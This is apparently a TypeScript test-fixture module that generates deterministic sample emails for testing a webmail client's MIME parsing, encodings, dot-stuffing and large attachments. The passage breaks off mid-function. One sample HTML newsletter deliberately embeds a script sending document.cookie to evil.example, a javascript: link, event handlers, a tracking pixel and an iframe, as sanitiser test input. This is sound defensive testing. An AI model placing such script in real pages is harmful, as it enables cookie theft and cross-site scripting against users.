/**
 * Deterministic test mail: every call returns the same bytes (no clock, no
 * unseeded randomness). Messages use LF line ends, as they are stored on disk;
 * `crlfLineEnds` gives the wire form a POP3 server serves.
 *
 * 8-bit content is built from raw bytes (Buffer), never from JS strings that
 * pass through a lossy encoding.
 */
import { createCipheriv, createHash } from 'node:crypto';
import { deflateSync } from 'node:zlib';

import { seededRandom } from './seeded-random';

export interface MaildropMessage {
  /** Stable short name, e.g. 'plain', 'html', 'attachments'. */
  name: string;
  /** The message as stored: LF line ends. */
  raw: Buffer;
  /** Decoded Subject, as a correct MIME parser must show it. */
  subject: string;
  /** Decoded From display name ('' when there is none) and address. */
  fromName: string;
  fromAddress: string;
  date: Date;
  /** Message-ID without angle brackets. */
  messageId: string;
}

export interface SampleAttachment {
  /** `name` of the MaildropMessage that carries it. */
  messageName: string;
  /** Decoded filename ('' for an inline part without one). */
  filename: string;
  contentType: string;
  disposition: 'attachment' | 'inline';
  /** Content-ID without angle brackets, for inline parts. */
  contentId?: string;
  /** The exact decoded bytes; a download must equal these byte for byte. */
  bytes: Buffer;
}

// ---------------------------------------------------------------------------
// Deterministic randomness

/** Pseudo-random bytes fixed by `label`: the AES-128-CTR keystream (fast, ~1 GB/s). */
export function deterministicBytes(label: string, length: number): Buffer {
  const key = createHash('sha256').update(label).digest().subarray(0, 16);
  const cipher = createCipheriv('aes-128-ctr', key, Buffer.alloc(16));
  return cipher.update(Buffer.alloc(length));
}

function pick<T>(random: () => number, items: readonly T[]): T {
  const item = items[Math.floor(random() * items.length)];
  if (item === undefined) throw new Error('pick from an empty list');
  return item;
}

function between(random: () => number, min: number, max: number): number {
  return min + Math.floor(random() * (max - min + 1));
}

// ---------------------------------------------------------------------------
// Encoders (byte-exact, LF line ends)

const LF = 0x0a;
const CR = 0x0d;

/** LF → CRLF (existing CRLF kept). A final CRLF is added when the message lacks one,
 * because a POP3 multi-line response always ends its last line before the ".". */
export function crlfLineEnds(raw: Buffer): Buffer {
  let bareLf = 0;
  for (let i = raw.indexOf(LF); i !== -1; i = raw.indexOf(LF, i + 1)) {
    if (i === 0 || raw[i - 1] !== CR) bareLf++;
  }
  const needsFinal = raw.length > 0 && raw[raw.length - 1] !== LF;
  const out = Buffer.allocUnsafe(raw.length + bareLf + (needsFinal ? 2 : 0));
  let from = 0;
  let to = 0;
  for (let i = raw.indexOf(LF); i !== -1; i = raw.indexOf(LF, i + 1)) {
    if (i > 0 && raw[i - 1] === CR) continue;
    to += raw.copy(out, to, from, i);
    out[to++] = CR;
    out[to++] = LF;
    from = i + 1;
  }
  to += raw.copy(out, to, from);
  if (needsFinal) {
    out[to++] = CR;
    out[to++] = LF;
  }
  return out;
}

/** Base64 in 76-character lines, each ending in LF; built in one preallocated buffer. */
export function base64Lines(bytes: Buffer): Buffer {
  const lineBytes = 57; // 57 bytes → 76 base64 characters
  const lines = Math.ceil(bytes.length / lineBytes);
  const out = Buffer.allocUnsafe(Math.ceil(bytes.length / 3) * 4 + lines);
  let to = 0;
  const block = lineBytes * 1024;
  for (let start = 0; start < bytes.length; start += block) {
    const encoded = Buffer.from(bytes.subarray(start, start + block).toString('base64'), 'latin1');
    for (let i = 0; i < encoded.length; i += 76) {
      to += encoded.copy(out, to, i, Math.min(i + 76, encoded.length));
      out[to++] = LF;
    }
  }
  return out.subarray(0, to);
}

function isQpLiteral(byte: number): boolean {
  return (byte >= 33 && byte <= 126 && byte !== 61) || byte === 32 || byte === 9;
}

/** Quoted-printable (RFC 2045) over bytes with LF line ends; soft breaks keep lines ≤ 76. */
export function quotedPrintable(bytes: Buffer): Buffer {
  const out: string[] = [];
  const lines = splitLines(bytes);
  lines.forEach((line, index) => {
    let current = '';
    for (let i = 0; i < line.length; i++) {
      const byte = line[i] ?? 0;
      const last = i === line.length - 1;
      let token: string;
      if (isQpLiteral(byte) && !(last && (byte === 32 || byte === 9))) token = String.fromCharCode(byte);
      else token = `=${byte.toString(16).toUpperCase().padStart(2, '0')}`;
      if (current.length + token.length > 75) {
        out.push(`${current}=\n`);
        current = '';
      }
      current += token;
    }
    out.push(index === lines.length - 1 && line.length === 0 ? '' : `${current}\n`);
  });
  return Buffer.from(out.join(''), 'latin1');
}

/** Lines of a buffer without their LF; a trailing LF yields a final empty line. */
function splitLines(bytes: Buffer): Buffer[] {
  const lines: Buffer[] = [];
  let from = 0;
  for (let i = bytes.indexOf(LF); i !== -1; i = bytes.indexOf(LF, from)) {
    lines.push(bytes.subarray(from, i));
    from = i + 1;
  }
  lines.push(bytes.subarray(from));
  return lines;
}

/** RFC 2047 B-encoded words, split on character boundaries so each word stays ≤ 75 chars. */
function encodedWordsB(charset: string, text: string, encode: (s: string) => Buffer = utf8): string {
  const overhead = `=?${charset}?B??=`.length;
  const maxBytes = Math.floor((75 - overhead) / 4) * 3;
  const words: string[] = [];
  let chunk = '';
  for (const char of text) {
    if (encode(chunk + char).length > maxBytes && chunk !== '') {
      words.push(`=?${charset}?B?${encode(chunk).toString('base64')}?=`);
      chunk = '';
    }
    chunk += char;
  }
  if (chunk !== '') words.push(`=?${charset}?B?${encode(chunk).toString('base64')}?=`);
  // Folded: the whitespace between adjacent encoded words is not part of the text.
  return words.join('\n ');
}

/** RFC 2047 Q-encoded word over bytes (safe in phrases: only [A-Za-z0-9!*+-/] stay literal). */
function encodedWordQ(charset: string, bytes: Buffer): string {
  let encoded = '';
  for (const byte of bytes) {
    if (byte === 32) encoded += '_';
    else if (/[A-Za-z0-9!*+\-/]/.test(String.fromCharCode(byte)) && byte < 128) encoded += String.fromCharCode(byte);
    else encoded += `=${byte.toString(16).toUpperCase().padStart(2, '0')}`;
  }
  return `=?${charset}?Q?${encoded}?=`;
}

function utf8(text: string): Buffer {
  return Buffer.from(text, 'utf8');
}

function latin1(text: string): Buffer {
  for (const char of text) {
    if ((char.codePointAt(0) ?? 0) > 0xff) throw new Error(`not latin1: ${char}`);
  }
  return Buffer.from(text, 'latin1');
}

/** windows-1251 for the Russian alphabet (А–я, Ё, ё) plus ASCII. */
function windows1251(text: string): Buffer {
  const out: number[] = [];
  for (const char of text) {
    const code = char.codePointAt(0) ?? 0;
    if (code < 0x80) out.push(code);
    else if (code >= 0x410 && code <= 0x44f) out.push(code - 0x410 + 0xc0);
    else if (code === 0x401) out.push(0xa8);
    else if (code === 0x451) out.push(0xb8);
    else if (code === 0x2014) out.push(0x97);
    else throw new Error(`no windows-1251 mapping in this encoder for ${char}`);
  }
  return Buffer.from(out);
}

/** ISO-2022-JP for ASCII, hiragana and katakana (JIS X 0208 rows 4 and 5). */
function iso2022jp(text: string): Buffer {
  const out: number[] = [];
  let jis = false;
  for (const char of text) {
    const code = char.codePointAt(0) ?? 0;
    let pair: [number, number] | undefined;
    if (code >= 0x3041 && code <= 0x3093) pair = [0x24, 0x21 + code - 0x3041];
    else if (code >= 0x30a1 && code <= 0x30f6) pair = [0x25, 0x21 + code - 0x30a1];
    else if (code === 0x30fc) pair = [0x21, 0x3c]; // ー
    else if (code === 0x3001) pair = [0x21, 0x22]; // 、
    else if (code === 0x3002) pair = [0x21, 0x23]; // 。
    if (pair) {
      if (!jis) out.push(0x1b, 0x24, 0x42); // ESC $ B
      jis = true;
      out.push(pair[0], pair[1]);
    } else if (code < 0x80) {
      if (jis) out.push(0x1b, 0x28, 0x42); // ESC ( B
      jis = false;
      out.push(code);
    } else {
      throw new Error(`no ISO-2022-JP mapping in this encoder for ${char}`);
    }
  }
  if (jis) out.push(0x1b, 0x28, 0x42);
  return Buffer.from(out);
}

/** RFC 5322 date with a numeric zone, e.g. "Mon, 04 Mar 2024 09:15:00 +0100". */
export function rfc5322Date(date: Date, offsetMinutes = 0): string {
  const days = ['Sun', 'Mon', 'Tue', 'Wed', 'Thu', 'Fri', 'Sat'];
  const months = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
  const local = new Date(date.getTime() + offsetMinutes * 60_000);
  const pad = (n: number): string => String(n).padStart(2, '0');
  const sign = offsetMinutes < 0 ? '-' : '+';
  const abs = Math.abs(offsetMinutes);
  return (
    `${days[local.getUTCDay()]}, ${pad(local.getUTCDate())} ${months[local.getUTCMonth()]} ${local.getUTCFullYear()} ` +
    `${pad(local.getUTCHours())}:${pad(local.getUTCMinutes())}:${pad(local.getUTCSeconds())} ` +
    `${sign}${pad(Math.floor(abs / 60))}${pad(abs % 60)}`
  );
}

// ---------------------------------------------------------------------------
// A small MIME builder

type Encoding = '7bit' | '8bit' | 'quoted-printable' | 'base64';

interface LeafPart {
  kind: 'leaf';
  contentType: string;
  encoding: Encoding;
  /** Decoded content; encoded here according to `encoding`. */
  body: Buffer;
  headers?: string[];
}

interface Multipart {
  kind: 'multipart';
  subtype: 'mixed' | 'alternative' | 'related';
  parts: MimeNode[];
  headers?: string[];
}

type MimeNode = LeafPart | Multipart;

function text(contentType: string, body: string, encoding: Encoding = '7bit'): LeafPart {
  return { kind: 'leaf', contentType, encoding, body: utf8(body) };
}

function attachment(contentType: string, filename: string, bytes: Buffer): LeafPart {
  return {
    kind: 'leaf',
    contentType: `${contentType}; name="${filename}"`,
    encoding: 'base64',
    body: bytes,
    headers: [`Content-Disposition: attachment; filename="${filename}"`],
  };
}

function renderNode(node: MimeNode, boundaryBase: string, chunks: Buffer[]): void {
  if (node.kind === 'leaf') {
    const head = [`Content-Type: ${node.contentType}`, `Content-Transfer-Encoding: ${node.encoding}`, ...(node.headers ?? [])];
    chunks.push(utf8(`${head.join('\n')}\n\n`));
    switch (node.encoding) {
      case '7bit':
      case '8bit':
        chunks.push(node.body);
        if (node.body.length > 0 && node.body[node.body.length - 1] !== LF) chunks.push(utf8('\n'));
        break;
      case 'quoted-printable':
        chunks.push(quotedPrintable(node.body));
        break;
      case 'base64':
        chunks.push(base64Lines(node.body));
        break;
    }
    return;
  }
  const boundary = `=_postern_${boundaryBase}`;
  const head = [`Content-Type: multipart/${node.subtype};\n boundary="${boundary}"`, ...(node.headers ?? [])];
  chunks.push(utf8(`${head.join('\n')}\n\nThis is a multi-part message in MIME format.\n`));
  node.parts.forEach((part, index) => {
    chunks.push(utf8(`\n--${boundary}\n`));
    renderNode(part, `${boundaryBase}_${index + 1}`, chunks);
  });
  chunks.push(utf8(`\n--${boundary}--\n`));
}

interface Envelope {
  name: string;
  /** Encoded header value of From (may contain encoded words). */
  from: string;
  fromName: string;
  fromAddress: string;
  /** Encoded header value of Subject. */
  subjectHeader: string;
  subject: string;
  date: Date;
  offsetMinutes?: number;
  to?: string;
  extraHeaders?: string[];
}

function buildMessage(envelope: Envelope, body: MimeNode): MaildropMessage {
  const messageId = `${envelope.name}.${envelope.date.getTime().toString(36)}@postern.test`;
  const headers = [
    `Return-Path: <${envelope.fromAddress}>`,
    `From: ${envelope.from}`,
    `To: ${envelope.to ?? 'Postern Tester <tester@postern.test>'}`,
    `Subject: ${envelope.subjectHeader}`,
    `Date: ${rfc5322Date(envelope.date, envelope.offsetMinutes ?? 0)}`,
    `Message-ID: <${messageId}>`,
    ...(envelope.extraHeaders ?? []),
    'MIME-Version: 1.0',
  ];
  const chunks: Buffer[] = [utf8(`${headers.join('\n')}\n`)];
  renderNode(body, envelope.name.replace(/[^A-Za-z0-9]/g, ''), chunks);
  return {
    name: envelope.name,
    raw: Buffer.concat(chunks),
    subject: envelope.subject,
    fromName: envelope.fromName,
    fromAddress: envelope.fromAddress,
    date: envelope.date,
    messageId,
  };
}

function plainFrom(name: string, address: string): Pick<Envelope, 'from' | 'fromName' | 'fromAddress'> {
  return { from: name === '' ? address : `${name} <${address}>`, fromName: name, fromAddress: address };
}

function plainSubject(subject: string): Pick<Envelope, 'subjectHeader' | 'subject'> {
  return { subjectHeader: subject, subject };
}

// ---------------------------------------------------------------------------
// Sample maildrop: one message per trap

/** A valid 1×1 PNG, used as the inline `cid:` image. */
const PIXEL_PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==',
  'base64',
);

/** "PDF-ish": a PDF header and trailer around every byte value 0x00–0xFF and 2 KB of noise. */
const REPORT_PDF = Buffer.concat([
  Buffer.from('%PDF-1.4\n%', 'latin1'),
  Buffer.from([0xe2, 0xe3, 0xcf, 0xd3, 0x0a]),
  Buffer.from(Array.from({ length: 256 }, (_, i) => i)),
  deterministicBytes('sample/report.pdf', 2048),
  Buffer.from('\r\n.\r\n\n%%EOF\n', 'latin1'),
]);

/** UTF-8 text with CRLF line ends inside the attachment: its bytes must survive untouched. */
const NOTES_TXT = utf8('Meeting notes\r\n- ünïcödé survives ✓\r\n.\r\n- a line with only a dot above\r\n');
const NOTES_FILENAME = 'notes-ünïcode.txt';

const SAMPLE_BASE = Date.UTC(2024, 2, 4, 9, 15, 0); // Mon 4 Mar 2024 09:15 UTC
const sampleDate = (index: number): Date => new Date(SAMPLE_BASE + index * 47 * 60_000);

/** Attachments and inline parts of `sampleMaildrop()`, byte-exact (the 20 MB one: `sampleBigAttachment()`). */
export const sampleAttachments: readonly SampleAttachment[] = Object.freeze([
  {
    messageName: 'html',
    filename: 'logo.png',
    contentType: 'image/png',
    disposition: 'inline',
    contentId: 'logo@postern.test',
    bytes: PIXEL_PNG,
  },
  { messageName: 'attachments', filename: 'report.pdf', contentType: 'application/pdf', disposition: 'attachment', bytes: REPORT_PDF },
  { messageName: 'attachments', filename: NOTES_FILENAME, contentType: 'text/plain', disposition: 'attachment', bytes: NOTES_TXT },
]);

const BIG_ATTACHMENT_BYTES = 15_000_000; // base64 with line ends: ~20.3 MB message
let bigAttachmentCache: SampleAttachment | undefined;

/** The attachment of the ~20 MB sample message (15 MB of deterministic pseudo-random bytes). */
export function sampleBigAttachment(): SampleAttachment {
  bigAttachmentCache ??= {
    messageName: 'big',
    filename: 'archive.bin',
    contentType: 'application/octet-stream',
    disposition: 'attachment',
    bytes: deterministicBytes('sample/archive.bin', BIG_ATTACHMENT_BYTES),
  };
  return bigAttachmentCache;
}

/**
 * One message per thing a webmail gets wrong, oldest first. With `big: false`
 * the ~20 MB message is left out; it is always the last one, so every other
 * message keeps its number either way.
 */
export function sampleMaildrop(options: { big?: boolean } = {}): MaildropMessage[] {
  const big = options.big ?? true;
  const messages: MaildropMessage[] = [];
  let index = 0;
  const next = (): Date => sampleDate(index++);

  messages.push(
    buildMessage(
      { name: 'plain', ...plainFrom('Ada Lovelace', 'ada@example.org'), ...plainSubject('Lunch on Thursday?'), date: next() },
      text(
        'text/plain; charset=us-ascii',
        'Hi,\n\nare we still on for lunch on Thursday? The usual place at 12:30.\n\n' +
          'Bring the printouts if you can.\n\n-- \nAda\n',
      ),
    ),
  );

  const html =
    '<!DOCTYPE html>\n<html><head><meta charset="utf-8"><title>Spring offers</title>\n' +
    '<script>document.location="http://evil.example/steal?c="+document.cookie</script>\n' +
    '<style>body { font-family: sans-serif; } .price { color: #c00; }</style></head>\n' +
    '<body>\n<h1 onclick="alert(\'clicked\')">Spring offers — 20% off</h1>\n' +
    '<p>Hello <b>Tester</b>, our <span class="price">spring collection</span> is here.</p>\n' +
    '<p><img src="cid:logo@postern.test" alt="Shop logo" width="1" height="1"></p>\n' +
    '<p><a href="https://shop.example/spring" onmouseover="track()">See the collection</a> ' +
    'or <a href="javascript:alert(1)">this link</a>.</p>\n' +
    '<img src="http://tracker.example/pixel.gif" width="1" height="1" alt="">\n' +
    '<iframe src="https://evil.example/frame"></iframe>\n</body></html>\n';
  messages.push(
    buildMessage(
      { name: 'html', ...plainFrom('Shop Newsletter', 'news@shop.example'), ...plainSubject('Spring offers: 20% off everything'), date: next() },
      {
        kind: 'multipart',
        subtype: 'alternative',
        parts: [
          text('text/plain; charset=utf-8', 'Spring offers — 20% off.\n\nSee the collection: https://shop.example/spring\n', 'quoted-printable'),
          {
            kind: 'multipart',
            subtype: 'related',
            parts: [
              text('text/html; charset=utf-8', html, 'quoted-printable'),
              {
                kind: 'leaf',
                contentType: 'image/png; name="logo.png"',
                encoding: 'base64',
                body: PIXEL_PNG,
                headers: ['Content-ID: <logo@postern.test>', 'Content-Disposition: inline; filename="logo.png"'],
              },
            ],
          },
        ],
      },
    ),
  );

  const notesEncoded = NOTES_FILENAME.split('').map((c) => (/[A-Za-z0-9.-]/.test(c) ? c : encodeURIComponent(c))).join('');
  messages.push(
    buildMessage(
      { name: 'attachments', ...plainFrom('Grace Hopper', 'grace@example.net'), ...plainSubject('Quarterly report and notes'), date: next() },
      {
        kind: 'multipart',
        subtype: 'mixed',
        parts: [
          text('text/plain; charset=utf-8', 'Hi,\n\nthe quarterly report and my notes are attached.\n\nGrace\n'),
          attachment('application/pdf', 'report.pdf', REPORT_PDF),
          {
            kind: 'leaf',
            contentType: `text/plain; charset=utf-8;\n name="${encodedWordQ('UTF-8', utf8(NOTES_FILENAME))}"`,
            encoding: 'base64',
            body: NOTES_TXT,
            headers: [`Content-Disposition: attachment;\n filename*=UTF-8''${notesEncoded}`],
          },
        ],
      },
    ),
  );

  const utf8Subject = 'Grüße aus München — 日本語のテスト ✓ 🎉';
  messages.push(
    buildMessage(
      {
        name: 'encoded-utf8',
        from: `${encodedWordsB('UTF-8', 'José Müller-Lüdenscheidt')} <jose@example.de>`,
        fromName: 'José Müller-Lüdenscheidt',
        fromAddress: 'jose@example.de',
        // "Re: " stays literal; the adjacent encoded words must be joined without a space.
        subjectHeader: `Re: ${encodedWordsB('UTF-8', utf8Subject)}`,
        subject: `Re: ${utf8Subject}`,
        date: next(),
        offsetMinutes: 60,
      },
      text('text/plain; charset=utf-8', 'Encoded-word headers in UTF-8, base64 (B) encoding.\n'),
    ),
  );

  const latin1Subject = 'Café crème à la française, déjà vu';
  messages.push(
    buildMessage(
      {
        name: 'encoded-latin1',
        from: `${encodedWordQ('ISO-8859-1', latin1('Françoise Lefèvre'))} <francoise@example.fr>`,
        fromName: 'Françoise Lefèvre',
        fromAddress: 'francoise@example.fr',
        subjectHeader: encodedWordQ('ISO-8859-1', latin1(latin1Subject)),
        subject: latin1Subject,
        date: next(),
        offsetMinutes: 120,
      },
      text('text/plain; charset=us-ascii', 'Encoded-word headers in ISO-8859-1, quoted-printable (Q) encoding.\n'),
    ),
  );

  const jpSubject = 'こんにちは テスト メール';
  const jpName = 'やまだ たろう';
  messages.push(
    buildMessage(
      {
        name: 'encoded-iso2022jp',
        from: `=?ISO-2022-JP?B?${iso2022jp(jpName).toString('base64')}?= <yamada@example.jp>`,
        fromName: jpName,
        fromAddress: 'yamada@example.jp',
        subjectHeader: `=?ISO-2022-JP?B?${iso2022jp(jpSubject).toString('base64')}?=`,
        subject: jpSubject,
        date: next(),
        offsetMinutes: 540,
      },
      {
        kind: 'leaf',
        contentType: 'text/plain; charset=ISO-2022-JP',
        encoding: '7bit',
        body: iso2022jp('こんにちは。テスト メール です。\n'),
      },
    ),
  );

  const ruSubject = 'Отчёт за квартал — ёлки';
  messages.push(
    buildMessage(
      {
        name: 'encoded-cp1251',
        from: `${encodedWordsB('windows-1251', 'Иван Петров', windows1251)} <ivan@example.ru>`,
        fromName: 'Иван Петров',
        fromAddress: 'ivan@example.ru',
        subjectHeader: encodedWordQ('windows-1251', windows1251(ruSubject)),
        subject: ruSubject,
        date: next(),
        offsetMinutes: 180,
      },
      {
        kind: 'leaf',
        contentType: 'text/plain; charset=windows-1251',
        encoding: '8bit',
        body: windows1251('Привет! Отчёт в приложении не нужен.\n'),
      },
    ),
  );

  const dotLines = [
    'Lines that start with dots; the server must dot-stuff each one.',
    '.',
    '..',
    '...',
    '.hidden-file',
    '. leading dot and space',
    '.\t.tab',
    'A line that is exactly a dot follows, then one that only looks like a terminator:',
    '.',
    '..',
    'end-of-data lookalike above; the real end is a lone dot as the last line:',
    '.',
  ];
  messages.push(
    buildMessage(
      { name: 'dot-lines', ...plainFrom('Dot Stuffer', 'dots@example.com'), ...plainSubject('Dots at the start of lines'), date: next() },
      text('text/plain; charset=us-ascii', `${dotLines.join('\n')}\n`),
    ),
  );

  const utf8Body = 'Ünïcödé in 8bit: Grüße, naïve café, Ελληνικά, Русский, 日本語, emoji 🙂.\nSecond line — with a dash.\n';
  messages.push(
    buildMessage(
      { name: '8bit-utf8', ...plainFrom('Zoë Ångström', 'zoe@example.se'), ...plainSubject('8-bit UTF-8 body'), date: next() },
      { kind: 'leaf', contentType: 'text/plain; charset=utf-8', encoding: '8bit', body: utf8(utf8Body) },
    ),
  );

  messages.push(
    buildMessage(
      { name: '8bit-latin1', ...plainFrom('Jürgen Weiß', 'juergen@example.at'), ...plainSubject('8-bit ISO-8859-1 body'), date: next() },
      {
        kind: 'leaf',
        contentType: 'text/plain; charset=iso-8859-1',
        encoding: '8bit',
        body: latin1('Grüße aus Österreich: Bücher, Käse, Straße, ½ × ¾, ©®.\nZweite Zeile: àéîõü ÿ.\n'),
      },
    ),
  );

  // One unfolded 3 KB header line: larger than the 2,048-byte line limit of some clients.
  const references = Array.from({ length: 75 }, (_, i) => `<thread-${String(i).padStart(3, '0')}.x7q@lists.example.com>`).join(' ');
  messages.push(
    buildMessage(
      {
        name: 'long-header',
        ...plainFrom('Mailing List', 'list@lists.example.com'),
        ...plainSubject('Re: a very long thread'),
        date: next(),
        extraHeaders: [`References: ${references}`],
      },
      text('text/plain; charset=us-ascii', 'The References header above is one line of about 3,000 bytes.\n'),
    ),
  );

  if (big) {
    const archive = sampleBigAttachment();
    messages.push(
      buildMessage(
        { name: 'big', ...plainFrom('Backup Robot', 'backup@example.com'), ...plainSubject('Nightly archive (20 MB)'), date: next() },
        {
          kind: 'multipart',
          subtype: 'mixed',
          parts: [text('text/plain; charset=us-ascii', 'Tonight\'s archive is attached.\n'), attachment(archive.contentType, archive.filename, archive.bytes)],
        },
      ),
    );
  }
  return messages;
}

// ---------------------------------------------------------------------------
// Many small realistic messages

const FIRST_NAMES = ['Alice', 'Bob', 'Carol', 'Dave', 'Erin', 'Frank', 'Grace', 'Heidi', 'Ivan', 'Judy', 'Mallory', 'Niaj', 'Olivia', 'Peggy', 'Rupert', 'Sybil', 'Trent', 'Victor', 'Walter', 'Yuki'];
const LAST_NAMES = ['Anderson', 'Brown', 'Chen', 'Dubois', 'Evans', 'Fischer', 'García', 'Hansen', 'Ivanova', 'Jones', 'Kowalski', 'Lee', 'Müller', 'Nakamura', 'Okafor', 'Patel', 'Rossi', 'Smith'];
const DOMAINS = ['example.com', 'example.org', 'example.net', 'mail.example', 'corp.example', 'uni.example.edu'];
const TOPICS = ['budget', 'release plan', 'team offsite', 'code review', 'invoice 4471', 'server migration', 'quarterly goals', 'hiring', 'design mockups', 'customer feedback', 'travel booking', 'security audit', 'onboarding', 'roadmap', 'database backup', 'holiday schedule'];
const SUBJECT_FORMS = ['Re: {t}', 'Question about the {t}', '{t}: update', 'Fwd: {t}', 'Notes from the {t} meeting', 'Reminder: {t} due Friday', 'Quick sync on {t}?', '[team] {t}'];
const WORDS = 'the a we should could please update meeting report week plan review send check project team numbers draft final agreed next steps customer server release notes budget timeline schedule question answer thanks attached below above change issue fixed deploy morning afternoon tomorrow yesterday discuss share document version feedback priority'.split(' ');

function sentence(random: () => number): string {
  const count = between(random, 6, 16);
  const words = Array.from({ length: count }, () => pick(random, WORDS));
  const first = words[0] ?? 'the';
  words[0] = first.charAt(0).toUpperCase() + first.slice(1);
  return `${words.join(' ')}${pick(random, ['.', '.', '.', '?', '!'])}`;
}

/** Wraps text at ~72 columns. */
function wrap(paragraph: string, width = 72): string {
  const lines: string[] = [];
  let line = '';
  for (const word of paragraph.split(' ')) {
    if (line !== '' && line.length + 1 + word.length > width) {
      lines.push(line);
      line = word;
    } else line = line === '' ? word : `${line} ${word}`;
  }
  if (line !== '') lines.push(line);
  return lines.join('\n');
}

function bodyOfSize(random: () => number, greeting: string, signature: string, targetBytes: number): string {
  let body = `${greeting}\n\n`;
  while (Buffer.byteLength(body) < targetBytes - signature.length - 80) {
    const paragraph = Array.from({ length: between(random, 2, 5) }, () => sentence(random)).join(' ');
    body += `${wrap(paragraph)}\n\n`;
  }
  return `${body}${signature}\n`;
}

export interface SmallMessagesOptions {
  /** PRNG seed (default 1): the same seed gives the same messages. */
  seed?: number;
  /** Date of the first (oldest) message; later ones follow at 3–240 minute steps. */
  start?: Date;
}

/** `n` small plain-text messages (1–5 KB each) from varied senders, oldest first. */
export function smallMessages(n: number, options: SmallMessagesOptions = {}): MaildropMessage[] {
  const random = seededRandom(options.seed ?? 1);
  let time = (options.start ?? new Date(Date.UTC(2024, 0, 8, 8, 0, 0))).getTime();
  const messages: MaildropMessage[] = [];
  for (let i = 1; i <= n; i++) {
    const first = pick(random, FIRST_NAMES);
    const last = pick(random, LAST_NAMES);
    const address = `${first.toLowerCase()}.${last.toLowerCase().normalize('NFD').replace(/[^a-z]/g, '')}@${pick(random, DOMAINS)}`;
    const nameEncoded = /^[\x20-\x7e]*$/.test(`${first} ${last}`) ? `${first} ${last}` : encodedWordsB('UTF-8', `${first} ${last}`);
    const topic = pick(random, TOPICS);
    const subject = `${pick(random, SUBJECT_FORMS).replace('{t}', topic)} (#${i})`;
    const date = new Date(time);
    time += between(random, 3, 240) * 60_000;
    const body = bodyOfSize(random, `Hi ${pick(random, ['all', 'team', 'there', 'Tester'])},`, `-- \n${first} ${last}`, between(random, 1200, 4900) - 400);
    messages.push(
      buildMessage(
        {
          name: `small-${i}`,
          from: `${nameEncoded} <${address}>`,
          fromName: `${first} ${last}`,
          fromAddress: address,
          ...plainSubject(subject),
          date,
          offsetMinutes: pick(random, [0, 60, -300, 330, 120]),
        },
        text('text/plain; charset=utf-8; format=flowed', body, 'quoted-printable'),
      ),
    );
  }
  return messages;
}

// ---------------------------------------------------------------------------
// One big message, fast

/**
 * A message of about `bytes` bytes (never more; at most ~80 bytes less; at
 * least ~1 KB): a short text part and a base64 attachment whose lines repeat a
 * 64 KB block of pseudo-random base64. Built with Buffer.fill, so 100 MB takes
 * well under a second.
 */
export function bigMessage(bytes: number, options: { name?: string; date?: Date } = {}): MaildropMessage {
  const name = options.name ?? `big-${bytes}`;
  const date = options.date ?? new Date(Date.UTC(2024, 5, 1, 12, 0, 0));
  const placeholder = buildMessage(
    { name, ...plainFrom('Bulk Sender', 'bulk@example.com'), ...plainSubject(`Big message (${bytes} bytes)`), date },
    {
      kind: 'multipart',
      subtype: 'mixed',
      parts: [
        text('text/plain; charset=us-ascii', 'A big attachment follows.\n'),
        { kind: 'leaf', contentType: 'application/octet-stream; name="big.bin"', encoding: 'base64', body: Buffer.alloc(0), headers: ['Content-Disposition: attachment; filename="big.bin"'] },
      ],
    },
  );
  // Split the empty-attachment message at its closing boundary and put the base64 lines there.
  const closing = placeholder.raw.lastIndexOf(Buffer.from('\n--=_postern_'));
  const head = placeholder.raw.subarray(0, closing);
  const tail = placeholder.raw.subarray(closing);
  const lineLength = 77; // 76 base64 characters + LF
  const lines = Math.max(0, Math.floor((bytes - head.length - tail.length) / lineLength));
  const block = base64Lines(deterministicBytes(`big/${name}`, 57 * 851)); // 851 lines ≈ 64 KB
  const out = Buffer.allocUnsafe(head.length + lines * lineLength + tail.length);
  head.copy(out, 0);
  out.fill(block, head.length, head.length + lines * lineLength);
  tail.copy(out, head.length + lines * lineLength);
  return { ...placeholder, raw: out };
}

// ---------------------------------------------------------------------------
// Demo inbox

const CRC_TABLE = Array.from({ length: 256 }, (_, n) => {
  let c = n;
  for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  return c >>> 0;
});

function crc32(data: Buffer): number {
  let crc = 0xffffffff;
  for (const byte of data) crc = (CRC_TABLE[(crc ^ byte) & 0xff] ?? 0) ^ (crc >>> 8);
  return (crc ^ 0xffffffff) >>> 0;
}

/** A real RGB PNG drawn by `pixel(x, y)`, so the demo has images a browser can show. */
export function makePng(width: number, height: number, pixel: (x: number, y: number) => [number, number, number]): Buffer {
  const raw = Buffer.alloc((width * 3 + 1) * height);
  for (let y = 0; y < height; y++) {
    const row = y * (width * 3 + 1);
    for (let x = 0; x < width; x++) {
      const [r, g, b] = pixel(x, y);
      raw[row + 1 + x * 3] = r;
      raw[row + 2 + x * 3] = g;
      raw[row + 3 + x * 3] = b;
    }
  }
  const chunk = (type: string, data: Buffer): Buffer => {
    const length = Buffer.alloc(4);
    length.writeUInt32BE(data.length);
    const typed = Buffer.concat([Buffer.from(type, 'latin1'), data]);
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(crc32(typed));
    return Buffer.concat([length, typed, crc]);
  };
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header[8] = 8; // bit depth
  header[9] = 2; // RGB
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', header),
    chunk('IDAT', deflateSync(raw)),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

/** The "now" of the demo inbox: messages are spread over the four weeks before it. */
export const DEMO_BASE_DATE = new Date(Date.UTC(2025, 4, 30, 16, 30, 0));

interface DemoSpec {
  from: [string, string];
  subject: string;
  body: () => MimeNode;
}

function newsletterHtml(title: string, accent: string, items: string[], remoteImage: string): string {
  const list = items.map((item) => `<tr><td style="padding:8px 0;border-bottom:1px solid #eee">${item}</td></tr>`).join('\n');
  return (
    `<!DOCTYPE html>\n<html><head><meta charset="utf-8"><title>${title}</title></head>\n` +
    `<body style="margin:0;background:#f4f4f4;font-family:Helvetica,Arial,sans-serif">\n` +
    `<table width="600" align="center" style="background:#fff;margin:20px auto">\n` +
